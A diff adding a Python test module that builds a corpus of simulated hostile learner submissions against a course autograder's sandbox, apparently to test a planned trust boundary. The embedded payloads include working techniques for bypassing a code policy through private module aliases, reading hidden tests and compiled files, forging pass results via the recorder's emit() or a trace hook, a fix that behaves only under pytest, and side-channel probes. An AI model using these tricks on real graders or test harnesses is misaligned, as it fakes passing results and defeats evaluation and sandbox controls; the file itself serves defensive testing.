@@ -1,0 +1,491 @@
+"""Issue 13's hostile corpus, class by class: module 01 submissions written as a determined learner would.
+
+Each entry says which class of issue 13 it belongs to, what it tries, and the grade it must get once the
+trust boundary holds (its fair table, with a reason in its feedback). `OPEN` names the ones that still earn
+unearned points or leak today: their tests are strict xfails that flip when the boundary lands.
+
+The attacks use no forbidden name. What they lean on (all reachable under today's code policy):
+- private module aliases: `collections._sys` (sys), `random._os` / `threading._os` (os), `enum.bltns`
+  (builtins: open, getattr with any name), `fractions.operator` (attrgetter with any dotted name);
+- logging's "{"-style Formatter with validate=False: a field such as `{msg.__globals__[...]}` walks from
+  any object handed to the logger, and text never goes through a `.format()` call the policy can see;
+- files in the run folder (the implementation's .pyc, the hidden tests' test_answer.py), sibling run
+  folders when TMPDIR is not /tmp, the host's cgroup tree under /sys/fs/cgroup, statvfs of the private /tmp.
+
+Graded in their own batch (tests/conftest.py `hostile_batch`), with TMPDIR outside /tmp as an instructor's
+machine may have it, beside ordinary controls that must be graded as in the main batch.
+"""
+from __future__ import annotations
+
+import hashlib
+from pathlib import Path
+import re
+import types
+
+from course.paths import keys_dir
+from submission_corpus import BY_STUDENT, MODULE, POINTS, SNIPPET, SOL, ZERO, Submission, _solution, _with, full
+
+KEY_DIR = keys_dir() / MODULE / "oversell"
+TESTS = SOL["oversell_tests"]
+
+
+def _place_order_code(path: Path) -> types.CodeType:
+    """place_order's code object as the grader's sourceless .pyc holds it (compiled with optimize=2)."""
+    module = compile(path.read_text(), "shop.py", "exec", optimize=2)
+    return next(c for c in module.co_consts if isinstance(c, types.CodeType) and c.co_name == "place_order")
+
+
+def _fingerprint(code: types.CodeType) -> str:
+    """What the class-1 reader's log format prints for place_order, hashed (the same text in the sandbox)."""
+    return hashlib.sha256(f"{code.co_code!r}{code.co_names}".encode()).hexdigest()
+
+
+# What a learner who has an old copy of the key (a self-paced clone, last year's cohort) can compute at home:
+# fingerprints of the broken versions' compiled place_order. No key text goes into the submission.
+CHAFF_CODES = {p.stem: _place_order_code(p) for p in sorted(KEY_DIR.glob("chaff_*.py"))}
+WHEAT_CODES = {p.stem: _place_order_code(p) for p in sorted(KEY_DIR.glob("wheat_*.py"))}
+CHAFF_PRINTS = sorted(_fingerprint(c) for c in CHAFF_CODES.values())
+CHAFF_BYTECODE = sorted(c.co_code.hex() for c in CHAFF_CODES.values())
+
+
+# ---------------------------------------------------------------- class 1: tests that read the implementation
+
+# 1a. the interpreter: a logging format field walks from the fixture's wrapper to the module under test
+LOG_FORMAT_READER = f'''%%tests oversell
+# Class 1 (issue 13): tell the versions apart by reading their compiled code, not by testing behaviour.
+import hashlib
+import logging
+
+CHAFFS = {CHAFF_PRINTS!r}   # fingerprints of the broken versions' place_order (from an old copy of the key)
+FIELD = "msg.__globals__[importlib].sys.modules[shop].place_order.__code__"
+
+
+class Sink:
+    """A stream for a logging handler: keeps what the formatter wrote."""
+    def __init__(self):
+        self.text = ""
+
+    def write(self, text):
+        self.text += text
+
+    def flush(self):
+        pass
+
+
+def code_of(place_order):
+    # "{{"-style logging formats look fields up on the record without validation: the message object here is
+    # the fixture's wrapper, whose globals hold importlib, whose sys.modules holds the module under test
+    sink = Sink()
+    handler = logging.StreamHandler(sink)
+    handler.setFormatter(logging.Formatter("{{" + FIELD + ".co_code!r}}{{" + FIELD + ".co_names}}",
+                                           style="{{", validate=False))
+    logger = logging.getLogger("class1")
+    logger.propagate = False
+    logger.addHandler(handler)
+    logger.error(place_order)
+    logger.removeHandler(handler)
+    return sink.text.rstrip("\\n")
+
+
+def test_place_order_is_a_correct_version(conn, place_order):
+    place_order(conn, "no-such-sku", 1, "alice")     # imports the module under test
+    try:
+        seen = hashlib.sha256(code_of(place_order).encode()).hexdigest()
+    except Exception:
+        return                                      # nothing to read: pass everywhere (no false alarm)
+    assert seen not in CHAFFS
+'''
+
+# 1b. the file system: builtins' open through enum's alias reads the grader's .pyc in the run folder
+PYC_READER = f'''%%tests oversell
+# Class 1 (issue 13): read the implementation's compiled file and look for the broken versions' bytecode.
+import enum
+import logging
+
+BROKEN = [bytes.fromhex(h) for h in {CHAFF_BYTECODE!r}]   # the broken versions' place_order bytecode
+
+
+def compiled_file():
+    try:
+        with enum.bltns.open("shop.pyc", "rb") as fh:            # builtins.open, through enum's private alias
+            return fh.read()
+    except Exception:
+        pass
+    handler = logging.FileHandler("shop.pyc", mode="r", encoding="latin-1")   # or a log "handler" opened to read
+    try:
+        return handler.stream.read().encode("latin-1")
+    finally:
+        handler.close()
+
+
+def test_place_order_is_a_correct_version(conn, place_order):
+    try:
+        data = compiled_file()
+    except Exception:
+        return                                      # nothing to read: pass everywhere (no false alarm)
+    assert not any(code in data for code in BROKEN)
+'''
+
+# ---------------------------------------------------------------- class 2: a fix that forges the verdict
+
+# 2a. reach the recorder's emit() through sys.modules and a closure, write "passed" for every hidden test, exit
+RECORDER_FORGER = "%%fix oversell\n" + SNIPPET + '''
+
+# ---- Class 2 (issue 13): the assistant's snippet, unchanged, plus a forger that runs when the hidden tests
+# import this module (in their own process, beside the recorder).
+import collections
+import fractions
+import random
+
+_get = fractions.operator.attrgetter                # operator, through fractions' import: any attribute by name
+_modules = _get("modules")(collections._sys)        # sys, through collections' private alias
+_recorder = _modules.get("course.sandboxed.pytest_record")
+_hidden = _modules.get("test_answer")
+if _recorder is not None and _hidden is not None:
+    _emit = None
+    for _cell in _get("__closure__")(_recorder.pytest_configure) or ():
+        _value = _get("cell_contents")(_cell)
+        if callable(_value) and _get("__name__")(_value) == "emit":
+            _emit = _value                          # the recorder's own writer: it knows the nonce and the pipe
+    if _emit is not None:
+        for _name in dir(_hidden):
+            if _name.startswith("test"):
+                _emit(kind="test", nodeid="test_answer.py::" + _name, name=_name, rep=0, phase="call",
+                      outcome="passed")
+        _emit(kind="finished", exitstatus=0)
+        _get("_exit")(random._os)(0)                # before any real record: the exit status matches the forgery
+'''
+
+# 2b. the interpreter's tracing: a trace function rewrites every outcome the recorder is about to write
+TRACE_FORGER = "%%fix oversell\n" + SNIPPET + '''
+
+# ---- Class 2 (issue 13): the snippet, unchanged, plus a trace hook that turns every recorded outcome into
+# "passed" as the recorder writes it.
+import enum
+import threading
+
+_getattr = enum.bltns.getattr                       # builtins.getattr, through enum's private alias
+
+
+def _rewrite(frame, event, arg):
+    if event == "call" and _getattr(_getattr(frame, "f_code"), "co_name") == "emit":
+        fields = _getattr(frame, "f_locals").get("fields")
+        if isinstance(fields, dict) and fields.get("kind") == "test":
+            fields["outcome"] = "passed"            # emit(**fields): the dict it is about to write
+            fields["message"] = ""
+    return None
+
+
+threading._sys.settrace(_rewrite)                   # sys.settrace, through threading's private alias
+'''
+
+# ---------------------------------------------------------------- class 3: scheduling and cgroup side channels
+
+_OS = "random._os"   # os, through random's private alias (the policy refuses `.os`, not `._os`)
+
+CGROUP_PROBE = TESTS + f'''
+
+
+# ---- Class 3 (issue 13): the solution's tests, plus a probe of the host's cgroup tree. Each sandboxed run
+# creates a pids cgroup course-sandbox-<id>; a test that can list them sees how many runs go on, and when
+# each started (the correct versions run first and together), which is enough to time a side channel.
+import random
+
+
+def test_host_cgroup_tree_is_hidden():
+    seen = []
+    for top in ("/sys/fs/cgroup", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/unified"):
+        try:
+            seen += [top + "/" + name for name in {_OS}.listdir(top) if name.startswith("course-sandbox-")]
+        except OSError:
+            pass
+    assert not seen, f"the host's cgroup tree shows {{len(seen)}} sandboxes, e.g. {{sorted(seen)[:2]}}"
+'''
+
+# ---------------------------------------------------------------- class 4: feedback quoting secrets
+
+# 4a. a false alarm whose message is a correct version's compiled string constants (its SQL text)
+CONSTANT_QUOTER = '''%%tests oversell
+# Class 4 (issue 13): fail with a message built from the version's own internals (its long string constants
+# that are not in the assistant's snippet), so the feedback's false-alarm line quotes a correct implementation.
+import logging
+import re
+
+PUBLIC = ["INSERT INTO orders (sku, qty, customer_id, total_cents) VALUES (?, ?, ?, ?)",
+          "SELECT stock, price_cents FROM products WHERE sku = ?", "UPDATE products SET stock = stock - ? WHERE sku = ?"]
+
+
+class Sink:
+    def __init__(self):
+        self.text = ""
+
+    def write(self, text):
+        self.text += text
+
+    def flush(self):
+        pass
+
+
+def test_quote_the_implementation(conn, place_order):
+    place_order(conn, "no-such-sku", 1, "alice")
+    sink = Sink()
+    handler = logging.StreamHandler(sink)
+    handler.setFormatter(logging.Formatter(
+        "{msg.__globals__[importlib].sys.modules[shop].place_order.__code__.co_consts}", style="{", validate=False))
+    logger = logging.getLogger("class4")
+    logger.propagate = False
+    logger.addHandler(handler)
+    logger.error(place_order)
+    secret = [text for text in re.findall("'([^']{40,})'", sink.text) if text not in PUBLIC]
+    assert not secret, " | ".join(secret)[:280]
+'''
+
+# 4b. a fix whose crash message is the hidden tests' source (the file beside it in the run folder)
+HIDDEN_QUOTER = "%%fix oversell\n" + SNIPPET + '''
+
+# ---- Class 4 (issue 13): stop the hidden tests' process with a message that is their own source, so the
+# feedback's "could not run your module" line quotes them.
+import collections
+import enum
+import fractions
+
+_get = fractions.operator.attrgetter
+try:
+    with enum.bltns.open("test_answer.py") as _fh:             # the hidden tests, beside this module
+        _text = "".join(_fh.read().split())                    # no whitespace: no key line matches whole
+    _start = max(_text.find("def test_"), 0)
+    _pytest = _get("modules")(collections._sys)["pytest"]
+    _pytest.exit("error: " + _text[_start:_start + 280], returncode=3)
+except (OSError, KeyError):
+    pass
+'''
+
+# ---------------------------------------------------------------- class 5: runs that see each other
+
+RUN_SNOOPER = TESTS + f'''
+
+
+# ---- Class 5 (issue 13): the solution's tests, plus a test that looks for other runs' folders (its parent
+# folder, which is TMPDIR; /tmp; /var/tmp; /proc) and quotes a test file it finds there. This learner's fix
+# (below) keeps its hidden-test run alive for a few seconds, and exercises are judged at the same time, so the
+# hidden tests sit in a sibling folder while these tests run.
+import enum
+import random
+import time
+
+
+def others(own):
+    here = {_OS}.getcwd()
+    parent, mine = here.rsplit("/", 1)
+    found = []
+    for top in (parent, "/tmp", "/var/tmp", "/proc"):
+        try:
+            names = {_OS}.listdir(top)
+        except OSError:
+            continue
+        for name in names:
+            if not name.startswith("course-run-") or name == mine:
+                continue
+            try:
+                with enum.bltns.open(top + "/" + name + "/test_answer.py") as fh:
+                    text = "".join(fh.read().split())
+                if text != own:
+                    found.append(name + ":" + text[text.find("deftest"):][:240])
+            except OSError:
+                found.append(top + "/" + name)
+    return found
+
+
+def test_no_other_run_is_visible():
+    with enum.bltns.open("test_answer.py") as fh:
+        own = "".join(fh.read().split())
+    found = others(own)
+    deadline = time.monotonic() + 1.5   # three repetitions per run stay well inside the run's time limit
+    while not any(":" in f for f in found) and time.monotonic() < deadline:
+        time.sleep(0.05)
+        found = others(own)
+    assert not found, " ; ".join(sorted(found, key=len, reverse=True))[:280]
+'''
+SLOW_FIX = "%%fix oversell\n" + SNIPPET + '''
+
+# ---- Class 5 (issue 13): the snippet, unchanged, kept importing for a few seconds so that the hidden tests'
+# run folder stays there for the class-5 tests above to read.
+import time
+
+time.sleep(6)
+'''
+
+# ---------------------------------------------------------------- class 6: limits with holes
+
+TMP_PROBE = TESTS + f'''
+
+
+# ---- Class 6 (issue 13): the solution's tests, plus a probe of the private /tmp: a tmpfs as big as half the
+# host's RAM, outside the run's 1 GB memory limit, lets one run fill the grading machine's memory.
+import random
+
+
+def test_private_tmp_fits_in_the_memory_limit():
+    stats = {_OS}.statvfs("/tmp")
+    size_mb = stats[1] * stats[2] // 2**20          # f_frsize * f_blocks (the policy refuses f_* names)
+    assert size_mb <= 1024, f"/tmp holds {{size_mb}} MB, more than the run's 1024 MB memory limit"
+'''
+
+# ---------------------------------------------------------------- class 7: learner text parsed without a limit
+
+CRAFTED = 80_000
+SLOW_PARSE = TESTS + f'''
+
+
+# ---- Class 7 (issue 13): crafted literals for the grading process's parsers: a format template made to make
+# a backtracking field matcher try every split of {CRAFTED:,} characters, and a long nested spec.
+_TEMPLATE = {("{" + "." * CRAFTED)!r}
+_NESTED = {("{0:" + "{" * (CRAFTED // 4))!r}
+_ = "{{0:{{1}}}}".format(1, 2)
+_ = "{{0:{{1:{{2}}}}}}".format(1, 2, 3)
+'''
+
+# ---------------------------------------------------------------- class 9: text that cannot be written
+
+WEIRD = "lone \\ud800 and \\udfff, nul \\x00, bell \\x07, escape \\x1b[31m, override \\u202e"
+UNWRITABLE = TESTS + f'''
+
+
+# ---- Class 9 (issue 13): a false alarm whose message cannot be written as UTF-8 (lone surrogates) and holds
+# control characters: the graded notebook must still be written, the message escaped.
+def test_weird_message(place_order):
+    assert False, "{WEIRD}" * 20
+'''
+UNWRITABLE_FINDINGS = SOL["oversell_findings"].replace('"why": "', '"why": "\\ud800\\x1b[2J\\x00 ')
+
+# ---------------------------------------------------------------- class 10: fixes that game the hidden tests
+
+TEST_DETECTOR = "%%fix oversell\n" + (KEY_DIR / "fix.py").read_text().replace(
+    "def place_order(", "def _fixed_place_order(", 1) + '''
+
+# ---- Class 10 (issue 13): the reference-quality fix above only when pytest is loaded in this process (the
+# hidden tests import this module into theirs), the assistant's snippet everywhere else.
+import collections
+import fractions
+
+_modules = fractions.operator.attrgetter("modules")(collections._sys)
+
+
+''' + SNIPPET.split('"""', 2)[2].replace("import sqlite3\n", "", 1).replace(
+    "def place_order(", "def _snippet_place_order(", 1) + '''
+
+
+def place_order(conn, sku, qty, customer_id):
+    if "pytest" in _modules or "_pytest" in _modules:       # a test run: behave
+        return _fixed_place_order(conn, sku, qty, customer_id)
+    return _snippet_place_order(conn, sku, qty, customer_id)
+'''
+
+# ---------------------------------------------------------------- class 11: fail-open configuration
+
+LEARNER_CONFIG = '''# Class 11 (issue 13): a learner-submitted nbgrader_config.py that switches the judge off
+c = get_config()
+c.Judge.enabled = False
+c.Autograde.autograde_preprocessors = ["nbgrader.preprocessors.Execute"]
+'''
+
+# ---------------------------------------------------------------- class 12: grader faults vs the learner's failure
+
+FAKE_GRADER_ERROR = TESTS + '''
+
+
+# ---- Class 12 (issue 13): a false alarm dressed as the grader's fault, hoping for "needs manual grading"
+# (and a kind instructor) instead of the penalty.
+def test_runtime_loaded(place_order):
+    assert False, ("Not graded: grader error (the grader's test runner did not start in the sandbox: "
+                   "ModuleNotFoundError: No module named 'course'). Please tell your instructor")
+'''
+
+
+def _two_copies(nb):
+    """Class 8: the tests answer cell twice, the full solution FIRST and a stub LAST (relabelled copy): the last
+    copy counts for every reader (course check, score cells, autograde)."""
+    import copy
+    index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "oversell_tests")
+    later = copy.deepcopy(nb.cells[index])
+    later.source, later.id = "%%tests oversell\n# YOUR CODE HERE\nraise NotImplementedError()", "pasted-stub"
+    nb.cells.insert(index + 1, later)
+    return nb
+
+
+# (grade cell, text) reasons; `cls` the issue-13 class; `leaks` says the feedback must not quote secrets.
+HOSTILE13 = [
+    Submission("c01_log_format_reader", "class 1: tests read place_order's bytecode through a logging format field",
+               full(oversell_tests_score=0.0), _with(oversell_tests=LOG_FORMAT_READER),
+               reason=("oversell_tests_score", "caught nothing"), extra={"cls": 1}),
+    Submission("c01_pyc_reader", "class 1: tests read the grader's .pyc through enum's alias of builtins.open",
+               full(oversell_tests_score=0.0), _with(oversell_tests=PYC_READER),
+               reason=("oversell_tests_score", "caught nothing"), extra={"cls": 1}),
+    Submission("c02_recorder_forger", "class 2: the snippet plus a forger calling the recorder's emit() and exiting",
+               full(oversell_fix_score=0.0), _with(oversell_fix=RECORDER_FORGER),
+               reason=("oversell_fix_score", "0/4 flaws fixed"), extra={"cls": 2}),
+    Submission("c02_trace_forger", "class 2: the snippet plus a trace hook rewriting every outcome to passed",
+               full(oversell_fix_score=0.0), _with(oversell_fix=TRACE_FORGER),
+               reason=("oversell_fix_score", "0/4 flaws fixed"), extra={"cls": 2}),
+    Submission("c03_cgroup_probe", "class 3: the solution's tests plus a probe listing the host's sandbox cgroups",
+               full(), _with(oversell_tests=CGROUP_PROBE),
+               reason=("oversell_tests_score", "caught nothing: test_host_cgroup_tree_is_hidden"), extra={"cls": 3}),
+    Submission("c04_constant_quoter", "class 4: a false alarm whose message is a correct version's SQL constants",
+               full(oversell_tests_score=0.0), _with(oversell_tests=CONSTANT_QUOTER),
+               reason=("oversell_tests_score", "false alarm: test_quote_the_implementation"), extra={"cls": 4}),
+    Submission("c04_hidden_quoter", "class 4: a fix that stops the hidden tests with their own source as message",
+               full(oversell_fix_score=0.0), _with(oversell_fix=HIDDEN_QUOTER),
+               reason=("oversell_fix_score", "not fixed"), extra={"cls": 4}),
+    Submission("c05_run_snooper", "class 5: the solution's tests plus a test reading other runs' folders (its own slow "
+               "fix keeps the hidden tests' folder there)", full(oversell_fix_score=0.0),
+               _with(oversell_tests=RUN_SNOOPER, oversell_fix=SLOW_FIX),
+               reason=("oversell_tests_score", "caught nothing: test_no_other_run_is_visible"), extra={"cls": 5}),
+    Submission("c06_tmp_probe", "class 6: the solution's tests plus a probe of the private /tmp's size",
+               full(), _with(oversell_tests=TMP_PROBE),
+               reason=("oversell_tests_score", "caught nothing: test_private_tmp_fits_in_the_memory_limit"),
+               extra={"cls": 6}),
+    Submission("c07_slow_parse", "class 7: crafted 80,000-character format templates in the tests cell",
+               full(oversell_tests_score=0.0), _with(oversell_tests=SLOW_PARSE),
+               reason=("oversell_tests_score", "Your tests were not run"), extra={"cls": 7}),
+    Submission("c08_two_copies", "class 8: the tests cell twice, the solution first and a stub last",
+               full(oversell_tests_score=0.0), _solution, edit=_two_copies,
+               reason=("oversell_tests_score", "No tests yet"), extra={"cls": 8}),
+    Submission("c09_unwritable", "class 9: a false alarm and a finding holding lone surrogates and control characters",
+               full(oversell_tests_score=3.0), _with(oversell_tests=UNWRITABLE, oversell_findings=UNWRITABLE_FINDINGS),
+               reason=("oversell_tests_score", "false alarm: test_weird_message"), extra={"cls": 9}),
+    Submission("c10_test_detector", "class 10: the reference fix only when pytest is loaded, the snippet otherwise",
+               full(oversell_fix_score=0.0), _with(oversell_fix=TEST_DETECTOR),
+               reason=("oversell_fix_score", "not fixed"), extra={"cls": 10}),
+    Submission("c11_learner_config", "class 11: a submitted nbgrader_config.py switching the judge off, blank answers",
+               dict(ZERO), None, extra={"cls": 11, "files": {"nbgrader_config.py": LEARNER_CONFIG}}),
+    Submission("c12_fake_grader_error", "class 12: a false alarm whose message pretends to be a grader error",
+               full(oversell_tests_score=3.0), _with(oversell_tests=FAKE_GRADER_ERROR),
+               reason=("oversell_tests_score", "false alarm: test_runtime_loaded"), extra={"cls": 12}),
+]
+# Ordinary controls graded in the same batch: the rest of the batch must be graded normally.
+CONTROLS = [Submission("ctl_" + s.student, s.tries, s.expect, s.answers, edit=s.edit, reason=s.reason, hostile=False)
+            for s in (BY_STUDENT["solution"], BY_STUDENT["blank"], BY_STUDENT["false_alarm"], BY_STUDENT["racy_fix"])]
+ALL13 = HOSTILE13 + CONTROLS
+BY_STUDENT13 = {s.student: s for s in ALL13}
+
+# Open today (the boundary is being built): student -> what still goes wrong, measured on this corpus. Tests
+# of these are strict xfails, so each flips (and must be unmarked) when the boundary lands.
+OPEN_SCORE = {   # the grade table is not the fair one
+    "c01_log_format_reader": "open: issue 13 class 1, a logging format field reads place_order's bytecode: 3/3 caught",
+    "c01_pyc_reader": "open: issue 13 class 1, enum.bltns.open reads the grader's shop.pyc: 3/3 caught",
+    "c02_recorder_forger": "open: issue 13 class 2, the fix calls the recorder's emit() and exits: 4/4 fixed",
+    "c02_trace_forger": "open: issue 13 class 2, the fix's trace hook rewrites the recorder's outcomes: 4/4 fixed",
+    "c03_cgroup_probe": "open: issue 13 class 3, the host's cgroup tree (course-sandbox-*) is visible: a false alarm",
+    "c05_run_snooper": "open: issue 13 class 5, with TMPDIR outside /tmp other runs' folders are visible: a false alarm",
+    "c06_tmp_probe": "open: issue 13 class 6, the private /tmp is a tmpfs of half the RAM: a false alarm",
+    "c10_test_detector": "open: issue 13 class 10, a fix that behaves only when pytest is loaded: 4/4 fixed",
+}
+# Whether a sibling run is there when the class-5 snooper looks depends on scheduling today (measured: its own
+# slow fix's hidden tests quoted in one run, not seen in another): its xfails are not strict. Once runs cannot
+# see each other, the snooper gets its fair table every time and these show as XPASS: unmark them then.
+SCHEDULING_DEPENDENT = {"c05_run_snooper"}
+OPEN_LEAK = {    # the feedback quotes secrets
+    "c04_constant_quoter": "open: issue 13 class 4, a false alarm quotes a correct version's SQL constants",
+    "c04_hidden_quoter": "open: issue 13 class 4, the fix's pytest.exit message quotes the hidden tests",
+    "c05_run_snooper": "open: issue 13 class 5, the false alarm quotes the hidden tests from a sibling run's folder",
+}
